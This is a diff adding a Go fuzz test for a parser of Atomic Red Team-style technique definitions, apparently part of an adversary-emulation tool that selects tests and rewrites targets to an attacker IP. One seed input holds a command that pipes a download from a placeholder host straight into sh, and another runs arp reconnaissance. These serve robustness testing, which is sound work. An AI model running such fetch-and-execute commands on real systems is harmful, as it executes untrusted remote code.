@@ -425,3 +425,27 @@ func TestMergeReportSection(t *testing.T) {
 		t.Errorf("file changed to %s", b)
 	}
 }
+
+// FuzzAtomicsReader: the atomics are read from a checkout the user names,
+// so any bytes must give a result or an error, never a panic; and the
+// selector's readers (prerequisite, shell words, rewriter) must hold up on
+// any command text.
+func FuzzAtomicsReader(f *testing.F) {
+	f.Add([]byte("attack_technique: T1059.004\natomic_tests:\n- name: x\n  supported_platforms: [linux]\n  executor: {name: sh, command: \"curl https://a.io/x | sh\"}\n"), "if [ -x \"$(command -v arp)\" ]; then arp -a; fi")
+	f.Add([]byte("attack_technique: T1\n"), "echo \"$(`echo 'x`)\" #{a}")
+	f.Add([]byte("{"), "$(((((")
+	f.Fuzz(func(t *testing.T, data []byte, cmd string) {
+		tests, err := ParseAtomics("fuzz.yaml", data)
+		if err == nil {
+			SelectAtomics(tests, SelectEnv{Have: fakeHave("sh", "curl")})
+		}
+		ShellCommands(cmd)
+		prereqTools(cmd)
+		out, _ := RewriteTargets(cmd, AttackerIP)
+		if len(out) > 2*len(cmd)+64 {
+			t.Fatalf("rewrite grew %d → %d bytes", len(cmd), len(out))
+		}
+		SelectAtomics([]AtomicTest{{Technique: "T1000", Number: 1, Name: "f", SupportedPlatforms: []string{"linux"},
+			Executor: AtomicExecutor{Name: "bash", Command: cmd}}}, SelectEnv{Have: fakeHave("sh")})
+	})
+}
